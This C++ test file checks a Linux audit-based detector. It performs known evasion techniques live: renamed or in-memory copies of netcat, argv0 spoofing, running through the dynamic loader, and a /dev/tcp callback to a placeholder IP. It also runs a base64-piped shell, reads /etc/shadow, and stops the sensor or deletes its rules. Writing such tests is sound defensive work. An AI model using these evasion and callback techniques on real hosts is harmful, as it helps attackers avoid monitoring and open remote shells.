// SPDX-License-Identifier: Apache-2.0
// The rows of docs/evasion.md, performed on the real kernel: each must be alerted as what it is.
#include <fcntl.h>
#include <gtest/gtest.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#include <csignal>
#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <functional>
#include <memory>

#include "base/os.h"
#include "program/audit_rule_files.h"
#include "tests/live/host.h"
#include "tests/program/dispatcher.h"

namespace tld {
namespace {

using testing_support::Eventually;
using testing_support::FindLiveState;
using testing_support::LiveHost;
using testing_support::LiveState;
using testing_support::Output;
using testing_support::RolesOf;

constexpr uid_t kUser = 1000;
constexpr char kNc[] = "/usr/bin/nc";
constexpr char kNcFile[] = "/usr/bin/nc.openbsd";
constexpr char kLoader[] = "/lib64/ld-linux-x86-64.so.2";

/// A file descriptor with a copy of nc, run without a path of its own.
void RunDescriptor(int fd, bool by_execveat) {
  char name[] = "x";
  char option[] = "-h";
  char* argv[] = {name, option, nullptr};
  char* envp[] = {nullptr};
  if (by_execveat) syscall(SYS_execveat, fd, "", argv, envp, AT_EMPTY_PATH);
  const std::string path = "/proc/self/fd/" + std::to_string(fd);
  execve(path.c_str(), argv, envp);
  _exit(126);
}

void CopyInto(int fd) {
  const Result<std::string> nc = ReadFile(kNcFile, 1 << 24);
  if (!nc || !WriteAll(fd, *nc)) _exit(125);
}

class EvasionTest : public testing::Test {
 protected:
  static void SetUpTestSuite() {
    if (FindLiveState() != LiveState::kReady) return;
    host_ = std::make_unique<LiveHost>(LiveHost::Options{});
    // Not where everybody may write: that would be told first.
    char place[] = "/srv/tld-evasion-XXXXXX";
    if (mkdtemp(place) != nullptr) place_ = place;
    chmod(place_.c_str(), 0755);
    EXPECT_TRUE(host_->Logged("200900 level=5"));
    EXPECT_TRUE(Eventually([] { return Knows(); }, 20)) << "the witness has hashed nothing";
  }
  static void TearDownTestSuite() {
    host_.reset();
    if (!place_.empty()) std::filesystem::remove_all(place_);
  }
  void SetUp() override {
    ASSERT_TRUE(host_) << "live tests need root, and that no other auditd runs";
    ASSERT_EQ(host_->problem(), "");
    before_ = host_->Syslog().size();
  }
  void TearDown() override {
    if (HasFailure() && host_) std::printf("--- syslog\n%s", New().c_str());
  }

  static bool Knows() {
    std::string out;
    host_->Tldctl("status --json", &out);
    return out.find("\"programs\":0") == out.npos && out.find("\"programs\":") != out.npos;
  }

  std::string New() const { return host_->Syslog().substr(before_); }

  /// One line that has both texts.
  bool HasAlert(const std::string& rule, const std::string& text) const {
    const std::string log = New();
    for (std::size_t at = 0; (at = log.find(" " + rule + " level=", at)) != log.npos; ++at) {
      if (log.substr(at, log.find('\n', at) - at).find(text) != std::string::npos) return true;
    }
    return false;
  }

  void ExpectAlert(const std::string& rule, const std::string& text) const {
    EXPECT_TRUE(Eventually([&] { return HasAlert(rule, text); }))
        << "no alert " << rule << " with " << text;
  }

  static bool Documented(const std::string& rule, const std::string& text) {
    return Eventually([&] {
      for (const std::string& line : host_->Documents()) {
        const bool of_rule = line.find("\"id\":\"" + rule + '"') != line.npos;
        if (of_rule && line.find(text) != line.npos) return true;
      }
      return false;
    });
  }

  static std::string At(const std::string& name) { return place_ + '/' + name; }
  static std::string Copy(const std::string& from, const std::string& name) {
    std::filesystem::copy_file(from, At(name));
    chmod(At(name).c_str(), 0755);
    return At(name);
  }
  static int Run(const std::vector<std::string>& command) {
    return host_->RunAsLogin(kUser, command, {"PATH=/usr/bin:/bin"});
  }
  static void Shell(const std::string& text) { Run({"/bin/bash", "-c", text}); }

  static inline std::unique_ptr<LiveHost> host_;
  static inline std::string place_;
  std::size_t before_ = 0;
};

TEST_F(EvasionTest, PlainNcIsTheAdministratorsRule) {
  Run({kNc, "-h"});
  ExpectAlert("100210", "exe=/usr/bin/nc.openbsd");
}

TEST_F(EvasionTest, AnotherArgumentZero) {
  Shell("exec -a '[kworker/0:1]' /usr/bin/nc -h");
  ExpectAlert("100210", "cmd=\"'[kworker/0:1]' -h\"");
  Run({"/bin/bash", "-c", "exec -a kworker/u8:3 /bin/true"});
  ExpectAlert("200040", "kworker/u8:3");
}

TEST_F(EvasionTest, ACopyUnderAnotherName) {
  const std::int64_t begin = MonotonicMs();
  Run({Copy(kNcFile, "copied"), "-h"});
  ExpectAlert("200110", "executed: " + At("copied") + " (is nc.openbsd, by sha256)");
  RecordProperty("milliseconds", static_cast<int>(MonotonicMs() - begin));
}

TEST_F(EvasionTest, ACopyThatOnlyItsOwnerMayRead) {
  Copy(kNcFile, "private");
  ASSERT_EQ(chown(At("private").c_str(), kUser, kUser), 0);
  chmod(At("private").c_str(), 0500);
  Run({At("private"), "-h"});
  ExpectAlert("200110", At("private") + " (is nc.openbsd, by sha256)");
}

TEST_F(EvasionTest, ACopyOverAFileThatWasLookedAt) {
  Run({Copy("/bin/true", "changed"), "-h"});
  std::filesystem::copy_file(kNcFile, At("changed"),
                             std::filesystem::copy_options::overwrite_existing);
  Run({At("changed"), "-h"});
  ExpectAlert("200110", At("changed") + " (is nc.openbsd, by sha256)");
}

TEST_F(EvasionTest, AHardLink) {
  if (link(kNcFile, At("hard").c_str()) != 0) {
    GTEST_FAIL() << "cannot link " << kNcFile << " into " << place_ << ": other file system?";
  }
  Run({At("hard"), "-h"});
  ExpectAlert("200110", At("hard") + " (is nc.openbsd, by inode)");
}

TEST_F(EvasionTest, ASymbolicLink) {
  std::filesystem::create_symlink(kNcFile, At("soft"));
  Run({At("soft"), "-h"});
  ExpectAlert("200010", "exe=/usr/bin/nc.openbsd");
}

TEST_F(EvasionTest, ADisguiseUnderALowerColour) {
  Run({Copy(kNcFile, "curl"), "-h"});
  ExpectAlert("200110", At("curl") + " (is nc.openbsd, by sha256)");
}

TEST_F(EvasionTest, TheDynamicLoader) {
  Run({kLoader, kNcFile, "-h"});
  ExpectAlert("200010", "cmd=\"" + std::string(kLoader) + " /usr/bin/nc.openbsd -h\"");
  Run({kLoader, "--inhibit-cache", "--argv0", "ls", kNcFile, "-4"});
  ExpectAlert("200010", "--argv0 ls /usr/bin/nc.openbsd -4");
  Run({kLoader, "--inhibit-cache", "--argv0", "ls", Copy(kNcFile, "loaded"), "-h"});
  ExpectAlert("200020", At("loaded"));
  ExpectAlert("200110", "(is nc.openbsd, by sha256)");
}

TEST_F(EvasionTest, Busybox) {
  Run({"/bin/busybox", "nc", "-h"});
  ExpectAlert("200010", "cmd=\"/bin/busybox nc -h\"");
  std::filesystem::create_symlink("/bin/busybox", At("nc"));
  Run({At("nc"), "-h"});
  ExpectAlert("100210", "exe=");
}

TEST_F(EvasionTest, AFileInMemory) {
  for (const bool by_execveat : {false, true}) {
    host_->CallAsLogin(kUser, [&] {
      const int fd = memfd_create(by_execveat ? "second" : "first", 0);
      CopyInto(fd);
      RunDescriptor(fd, by_execveat);
    });
  }
  ExpectAlert("200030", "exe=\"/memfd:first (deleted)\"");
  ExpectAlert("200030", "exe=\"/memfd:second (deleted)\"");
}

TEST_F(EvasionTest, AFileThatNeverHadAName) {
  chmod(place_.c_str(), 0777);
  host_->CallAsLogin(kUser, [] {
    const int fd = open(place_.c_str(), O_TMPFILE | O_RDWR, 0755);
    CopyInto(fd);
    const std::string path = "/proc/self/fd/" + std::to_string(fd);
    const int again = open(path.c_str(), O_RDONLY);  // one that is written to cannot be run
    close(fd);
    RunDescriptor(again, true);
  });
  chmod(place_.c_str(), 0755);
  ExpectAlert("200031", "(deleted)");
}

TEST_F(EvasionTest, DeletedBeforeItRuns) {
  Copy(kNcFile, "gone");
  const Fd fd(open(At("gone").c_str(), O_RDONLY));
  std::filesystem::remove(At("gone"));
  host_->CallAsLogin(kUser, [&] { RunDescriptor(fd.get(), true); });
  ExpectAlert("200031", "gone (deleted)");
}

TEST_F(EvasionTest, NamesThatTheKernelEncodes) {
  Run({Copy(kNcFile, "two words"), "-h"});
  ExpectAlert("200110", "two words (is nc.openbsd, by sha256)");
  Run({Copy(kNcFile, "key=(null)"), "-h"});
  ExpectAlert("200110", "key=(null) (is nc.openbsd, by sha256)");
}

TEST_F(EvasionTest, ANameThatIsTooLongForComm) {
  std::string out;
  ASSERT_EQ(host_->Tldctl("list add -- suspicious-programs a-name-of-over-15-bytes red", &out), 0);
  Run({Copy("/bin/true", "a-name-of-over-15-bytes")});
  ExpectAlert("200010", "a-name-of-over-15-bytes");
}

TEST_F(EvasionTest, ArgumentsThatLookLikeFields) {
  Run({kNc, "-h", "key=(x)", "exe=/bin/ls"});
  ExpectAlert("100210", "key=(x)");
}

TEST_F(EvasionTest, ManyAndLongArguments) {
  std::vector<std::string> many = {kNc, "-h"};
  for (int i = 0; i < 200; ++i) many.push_back("argument" + std::to_string(i));
  Run(many);
  ExpectAlert("100210", "-h argument0 argument1 ");
  EXPECT_TRUE(Documented("100210", "argument198 argument199\""));
  Run({kNc, std::string(128 * 1024 - 1, 'A')});
  ExpectAlert("100210", "/usr/bin/nc AAAA");
}

TEST_F(EvasionTest, AnotherPersonality) {
  Run({"/usr/bin/setarch", "-R", kNc, "-4"});
  ExpectAlert("100210", "cmd=\"/usr/bin/nc -4\"");
}

TEST_F(EvasionTest, ARuleWithTwoKeys) {
  ASSERT_EQ(LiveHost::Auditctl("-A always,exit -F arch=b64 -S execve -F auid=1001 "
                               "-k other -k audit-wazuh-c"),
            0);
  host_->RunAsLogin(kUser, {kNc, "-6"}, {}, 1001);
  ExpectAlert("100210", "auid=1001");
  LiveHost::Auditctl("-d always,exit -F arch=b64 -S execve -F auid=1001 -k other -k audit-wazuh-c");
}

TEST_F(EvasionTest, AnotherRuleThatTakesTheEventFirst) {
  for (const char* key : {"-k other", ""}) {
    const std::string rule = "always,exit -F arch=b64 -S execve -F auid=1002 " + std::string(key);
    ASSERT_EQ(LiveHost::Auditctl("-A " + rule), 0);
    before_ = host_->Syslog().size();
    host_->RunAsLogin(kUser, {kNc, "-6"}, {}, 1002);
    ExpectAlert("200010", "auid=1002");
    LiveHost::Auditctl("-d " + rule);
  }
}

TEST_F(EvasionTest, AScript) {
  std::ofstream(At("linpeas.sh")) << "#!/bin/sh\nexit 0\n";
  chmod(At("linpeas.sh").c_str(), 0755);
  Run({At("linpeas.sh")});
  ExpectAlert("100210", At("linpeas.sh"));
}

TEST_F(EvasionTest, Wrappers) {
  Shell(
      "env X=1 nc -h 1; nohup nc -h 2; timeout 5 nc -h 3; setsid -w nc -h 4; nice nc -h 5; "
      "echo 6 | xargs nc -h");
  for (int i = 1; i <= 6; ++i) ExpectAlert("100210", "cmd=\"nc -h " + std::to_string(i) + "\"");
}

TEST_F(EvasionTest, ACommandThatWasNotFoundIsNotCalledExecuted) {
  Run({"/usr/bin/env", At("none/nc"), "-h"});
  EXPECT_TRUE(Documented("200060", At("none/nc")));  // below the level of syslog
  EXPECT_EQ(New().find("level=12"), std::string::npos);
}

TEST_F(EvasionTest, AProgramOf32Bits) {
  const std::string source = host_->directory().Write(
      "small.s",
      ".globl _start\n_start:\n movl $11,%eax\n movl $path,%ebx\n movl $args,%ecx\n xorl "
      "%edx,%edx\n"
      " int $0x80\n movl $1,%eax\n int $0x80\n.data\npath: .asciz \"/usr/bin/nc\"\n"
      "arg: .asciz \"-h32\"\nargs: .long path, arg, 0\n");
  int status = 0;
  Output("as --32 -o " + At("small.o") + ' ' + source + " && ld -m elf_i386 -o " + At("small") +
             ' ' + At("small.o") + " 2>&1",
         &status);
  ASSERT_EQ(status, 0);
  if (Run({At("small")}) == 126) {  // a kernel that runs none: there is no such way around
    EXPECT_TRUE(Documented("80792", "\"exit\":\"-8\""));
    return;
  }
  ExpectAlert("100210", "cmd=\"/usr/bin/nc -h32\"");
}

TEST_F(EvasionTest, ShellsThatCallHome) {
  Shell("exec 3<>/dev/tcp/192.0.2.1/4444 & sleep 0.1; kill $! 2>/dev/null");
  ExpectAlert("200052", "/dev/tcp/192.0.2.1/4444");
  Run({"/bin/sh", "-c", "echo ZWNobyBoaQ== | base64 -d | sh"});
  ExpectAlert("200055", "base64 -d | sh");
}

TEST_F(EvasionTest, ToolsUnderOtherNamesAndFromWithinADirectory) {
  // None of these files is there: the tools fail, and were run all the same.
  Shell("exec -a x rm /var/log/journal/none/none");
  ExpectAlert("200327", "x /var/log/journal/none/none");
  Shell("cd /etc/profile.d; cp /none/none tld-none; true");
  ExpectAlert("200326", "cp /none/none tld-none in /etc/profile.d");
  Shell("cd /etc; cat shadow >/dev/null; true");
  ExpectAlert("200333", "cat shadow in /etc");
}

TEST_F(EvasionTest, ALoginUidThatChanges) {
  host_->CallAsLogin(0, [] { std::ofstream("/proc/self/loginuid") << 1003; });
  ExpectAlert("200230", "Login uid 1000 became 1003");
}

TEST_F(EvasionTest, AProgramThatIsRemovedAsSoonAsItRuns) {
  const std::string copy = Copy("/usr/bin/sleep", "removed");
  // The witness is held up, as on a busy host: else it comes before anybody has removed a file.
  const std::vector<pid_t> witness = RolesOf(host_->Front(), true);
  ASSERT_EQ(witness.size(), 1u);
  kill(witness[0], SIGSTOP);
  Shell(copy + " 20 & sleep 0.1");
  std::filesystem::remove(copy);
  kill(witness[0], SIGCONT);
  ExpectAlert("200114", "still running: " + copy);
}

/// Behind the link is a directory of another file system, where the program never was.
TEST_F(EvasionTest, APrivateCopyWhoseDirectoryIsALinkNow) {
  const std::vector<pid_t> witness = RolesOf(host_->Front(), true);
  ASSERT_EQ(witness.size(), 1u);
  std::filesystem::create_directory(At("d"));
  std::filesystem::copy("/usr/bin/sleep", At("d/later"));
  kill(witness[0], SIGSTOP);
  Shell(At("d/later") + " 20 & sleep 0.1");
  std::filesystem::rename(At("d"), At("d.e"));
  std::filesystem::create_directory_symlink("/proc", At("d"));
  kill(witness[0], SIGCONT);
  ExpectAlert("200114", "still running: " + At("d/later"));
}

TEST_F(EvasionTest, AWitnessThatIsKilledComesBack) {
  const std::vector<pid_t> before = RolesOf(host_->Front(), true);
  ASSERT_EQ(before.size(), 1u);
  kill(before[0], SIGKILL);
  ASSERT_TRUE(Eventually([&] {
    const std::vector<pid_t> now = RolesOf(host_->Front(), true);
    return now.size() == 1 && now[0] != before[0];
  }));
  // What it was asked before it said that it has begun is not answered.
  const std::string copy = Copy(kNcFile, "after");
  EXPECT_TRUE(Eventually([&] {
    Run({copy, "-h"});
    return HasAlert("200110", copy + " (is nc.openbsd, by sha256)");
  }));
}

TEST_F(EvasionTest, WorkOnTheSensorItself) {
  const std::string rules = host_->directory().Write("20.rules", WatchAuditRules({place_}));
  ASSERT_EQ(LiveHost::Auditctl("-R " + rules), 0);
  host_->RunAsLogin(0, {"/usr/bin/touch", At("settings")});
  ExpectAlert("200220", At("settings") + " by /usr/bin/touch, login uid 1000");
  const std::vector<pid_t> witness = RolesOf(host_->Front(), true);
  ASSERT_EQ(witness.size(), 1u);
  host_->RunAsLogin(0, {"/bin/kill", "-STOP", std::to_string(witness[0])});
  kill(witness[0], SIGCONT);
  ExpectAlert("200211", "tld-audisp killed or halted by /usr/bin/kill, login uid 1000");
}

/// The last one: the rules are gone after it.
TEST_F(EvasionTest, RulesThatAUserRemoves) {
  host_->RunAsLogin(0, {"/usr/sbin/auditctl", "-D"});
  ExpectAlert("200200", "removed by the user with login uid 1000");
}

}  // namespace
}  // namespace tld
